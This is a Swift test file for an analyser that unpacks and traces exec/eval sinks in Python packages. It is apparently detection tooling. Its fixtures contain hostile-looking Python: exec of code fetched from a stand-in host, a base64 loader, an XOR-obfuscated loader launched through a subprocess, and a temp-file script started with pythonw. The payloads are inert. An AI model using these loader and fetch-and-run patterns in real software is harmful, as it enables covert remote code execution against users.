import Limits
import Packages
import PartialEvaluation
import PythonSemantics
import PythonSyntax
import SourceText
import Testing

/// Evaluates the files of a package, given by path; those that are no Python can only be read.
private func evaluate(_ files: KeyValuePairs<String, String>, isTraced: Bool = false) -> Execution {
  let inputs = files.filter { $0.key.hasSuffix(".py") }.map { path, source in
    let stem = path.split(separator: ".")[0].split(separator: "/").filter { $0 != "__init__" }.joined(separator: ".")
    return SemanticModel.Input(
      path: path, moduleName: stem, role: .module, parsed: Parser.parse(SourceText(utf8: Array(source.utf8))))
  }
  return Execution(
    model: SemanticModel(inputs: inputs, entryPoints: []),
    files: files.map { ($0.key, Array($0.value.utf8)[...]) }, isTraced: isTraced)
}

private func layers(_ execution: Execution) -> [String] {
  execution.layers.map { String(decoding: $0.bytes, as: UTF8.self) }
}

/// The sinks as `name outcome`, in the order of their places.
private func sinks(_ execution: Execution) -> [String] {
  execution.sinks.map { sink in
    let outcome: String
    if !sink.layers.isEmpty {
      outcome = "layers \(sink.layers)"
    } else if sink.isUnknown {
      outcome = "unknown \(sink.origins.words.joined(separator: "+"))"
    } else if !sink.failure.isEmpty {
      outcome = "failed"
    } else {
      outcome = sink.isComputed ? "computed" : "?"
    }
    return "\(sink.name) \(outcome)"
  }
}

/// What becomes of the places that execute code.
@Suite struct SinkTests {
  @Test func eachPlaceSaysWhatBecameOfIt() {
    let execution = evaluate([
      "m.py": """
      import base64, requests
      exec(base64.b64decode('cHJpbnQoImluZXJ0IGxheWVyIikK'))
      exec(requests.get('https://host.example.invalid/').text)
      n = eval('1 + 2')
      eval(requests.get('https://host.example.invalid/').text)(3)
      exec('')
      """
    ])
    #expect(
      sinks(execution) == [
        "builtins.exec layers [0]", "builtins.exec unknown network", "builtins.eval computed",
        "builtins.eval unknown network", "builtins.exec computed",
      ])
  }

  @Test func whatEvalGivesOfUnknownTextComesFromThere() {
    let execution = evaluate([
      "m.py": "import requests\nexec(eval(requests.get('https://host.example.invalid/').text))"
    ])
    #expect(sinks(execution).last == "builtins.exec unknown network")
  }

  @Test func fragmentsAreComputedAndAreNoLayers() {
    let execution = evaluate([
      "m.py": "n = [eval(x[::-1]) for x in ('1+1', '7-9', '\"b\"+\"a\"')]\nexec('x = %d' % n[0])"
    ])
    #expect(layers(execution) == ["x = 2"])
    #expect(sinks(execution) == ["builtins.eval computed", "builtins.exec layers [0]"])
  }

  @Test func stopsAreToldWhenAskedFor() {
    let source = "def f():\n  1 / 0\n  exec('print(1)')\nf()\nexec('print(2)')"
    #expect(evaluate(["m.py": source]).stops.isEmpty)
    let traced = evaluate(["m.py": source], isTraced: true)
    #expect(traced.stops.map(\.reason).contains("ZeroDivisionError: division by zero"))
    #expect(layers(traced) == ["print(2)"])
  }

  @Test func textThatIsNoPythonIsALayerAllTheSame() {
    let execution = evaluate([
      "m.py": "import base64\nexec(base64.b64decode('PSA9ID0gKSApICkgOyA7IDsKKSA9ID0=').decode())"
    ])
    #expect(layers(execution) == ["= = = ) ) ) ; ; ;\n) = ="])
    #expect(execution.sinks.first?.layers == [0])
  }

  // MARK: - Files of the package

  @Test func setupReadsItsOwnFiles() {
    let version = "__version__ = '1.0'\n"
    for reading in [
      "open(os.path.join(os.path.abspath(os.path.dirname(__file__)), 'pkg', '_v.py')).read()",
      "open('pkg/_v.py').read()", "(pathlib.Path(__file__).parent / 'pkg' / '_v.py').read_text()",
      "pathlib.Path('pkg', '_v.py').open().read()", "io.open(os.getcwd() + '/pkg/_v.py', encoding='utf-8').read()",
    ] {
      let execution = evaluate([
        "pkg-1.0/setup.py": "import os, io, pathlib\nabout = {}\nexec(\(reading), about)\n",
        "pkg-1.0/pkg/_v.py": version,
      ])
      #expect(layers(execution) == [version], "\(reading)")
    }
  }

  @Test func aModuleDecodesADataFileOfItsPackage() {
    for reading in [
      "pkgutil.get_data('pkg', 'd.bin').decode()", "importlib.resources.files('pkg').joinpath('d.bin').read_text()",
      "open(os.path.dirname(__file__) + '/d.bin').read()",
    ] {
      let execution = evaluate([
        "pkg/__init__.py": "import os, pkgutil, importlib.resources\nexec(bytes.fromhex(\(reading)))\n",
        "pkg/d.bin": "7072696e742827696e65727427290a",
      ])
      #expect(layers(execution) == ["print('inert')\n"], "\(reading)")
    }
  }

  @Test func filesElsewhereStayUnknown() {
    let execution = evaluate([
      "pkg/__init__.py": "exec(open('/etc/inert').read())\nexec(open('x.py').read())", "x.py": "1",
    ])
    #expect(sinks(execution) == ["builtins.exec unknown file", "builtins.exec unknown file"])
  }

  // MARK: - Programs that are started

  @Test func theKeyComesThroughTheArgumentOfAnotherInterpreter() {
    // `print('inert HOLE')` under XOR with 11 22 33; the key stands in another file, and in a string there.
    let execution = evaluate([
      "pkg/__init__.py": "from .table import Table\n",
      "pkg/inner/bound.py": """
      data = '\(xored("print('inert HOLE, which is long enough to be told from a word of another sort')", [0x11, 0x22, 0x33]))'
      def start(text):
        key, out = bytearray.fromhex(text), bytearray.fromhex(data)
        for i in range(len(out)): out[i] ^= key[i % len(key)]
        out = out.decode('ascii').replace('HOLE', 'host.example.invalid')
        exec(out)
      """,
      "pkg/table.py": """
      import subprocess, sys
      class Table:
        def add_row(self, row):
          subprocess.Popen([sys.executable, '-c', "from pkg.inner import bound as b;b.start('112233')"])
      """,
    ])
    #expect(
      layers(execution) == [
        "from pkg.inner import bound as b;b.start('112233')",
        "print('inert HOLE, which is long enough to be told from a word of another sort')",
        "print('inert host.example.invalid, which is long enough to be told from a word of another sort')",
      ])
    #expect(execution.layers[1].isTemplate)
  }

  private func xored(_ text: String, _ key: [UInt8]) -> String {
    let digits = Array("0123456789abcdef")
    return text.utf8.enumerated().map { index, byte in
      let value = Int(byte ^ key[index % key.count])
      return String([digits[value / 16], digits[value % 16]])
    }.joined()
  }

  @Test func aScriptThatWasWrittenAndStartedIsRun() {
    let script = "import requests\\nexec(requests.get('https://host.example.invalid/').text)\\n"
    for program in [
      "from tempfile import NamedTemporaryFile as T\nfrom os import system as s\nf = T(delete=False)\nf.write(b\"\(script)\")\n"
        + "f.close()\ns(f'start pythonw.exe {f.name}')",
      "import subprocess, sys, os\np = os.getcwd() + '/' + os.getlogin() + '.py'\nopen(p, 'w').write(\"\(script)\")\n"
        + "subprocess.Popen([sys.executable, p])",
    ] {
      let execution = evaluate(["m.py": program])
      #expect(layers(execution) == [script.replacing("\\n", with: "\n")])
      #expect(sinks(execution) == ["builtins.exec unknown network"])
    }
  }
}
